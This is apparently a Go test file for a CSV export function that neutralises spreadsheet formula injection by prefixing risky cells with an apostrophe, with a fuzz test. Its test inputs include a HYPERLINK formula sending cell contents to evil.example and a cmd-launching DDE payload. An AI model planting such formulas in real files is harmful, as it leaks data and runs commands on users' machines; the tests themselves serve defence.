package document

import (
	"encoding/csv"
	"strings"
	"testing"
)

// TestCSVFormulaCells checks OWASP's rule for CSV exports: a cell that
// starts with = + - @ TAB or CR is written as text (a leading '), so that a
// department named =HYPERLINK(…) is not a formula when the file is opened
// in a spreadsheet. Numbers stay numbers.
func TestCSVFormulaCells(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{`=HYPERLINK("https://evil.example/?"&A1,"詳細")`, `'=HYPERLINK("https://evil.example/?"&A1,"詳細")`},
		{"+81 90", "'+81 90"},
		{"-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"新宿店", "新宿店"},
		{"", ""},
		{"12", "12"},
		{"-12", "-12"},
		{"+3.5", "+3.5"},
		{"<3", "<3"},
		{"a=b", "a=b"},
	} {
		if got := csvCell(tt.in); got != tt.want {
			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	out := Table{Name: "x", Rows: [][]string{{"部署", "件数"}, {"=HYPERLINK(\"https://evil.example\")", "3"}, {"@A1", "-2"}}}.CSV().Data
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(out), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := rows[1][0]; got != "'=HYPERLINK(\"https://evil.example\")" {
		t.Errorf("Table.CSV wrote the cell %q", got)
	}
	if got := rows[2][0]; got != "'@A1" {
		t.Errorf("Table.CSV wrote the cell %q", got)
	}
	if rows[1][1] != "3" || rows[2][1] != "-2" {
		t.Errorf("Table.CSV changed numbers: %q", rows)
	}
}

// FuzzCSVCell checks that no cell csvCell returns starts a formula unless
// it is a plain number, that it changes only the first character's meaning
// (it adds at most one leading '), and that Table.CSV writes what a CSV
// reader reads back cell for cell.
func FuzzCSVCell(f *testing.F) {
	for _, s := range []string{"=1+1", "+1", "-1", "@x", "\t", "\r\n", "部署", `"quoted"`, "a,b", "'=x", "1e5", "-"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		got := csvCell(in)
		if got != in && got != "'"+in {
			t.Fatalf("csvCell(%q) = %q", in, got)
		}
		if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) && !plainNumber(got) {
			t.Fatalf("csvCell(%q) = %q starts a formula", in, got)
		}
		if !strings.ContainsRune(in, '\r') {
			// encoding/csv reads \r\n inside a quoted field as \n.
			out := Table{Name: "x", Rows: [][]string{{in, "x"}}}.CSV().Data
			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(out), "\ufeff"))).ReadAll()
			if err != nil || len(rows) != 1 || len(rows[0]) != 2 || rows[0][0] != got {
				t.Fatalf("Table.CSV of %q read back as %q, %v", in, rows, err)
			}
		}
	})
}
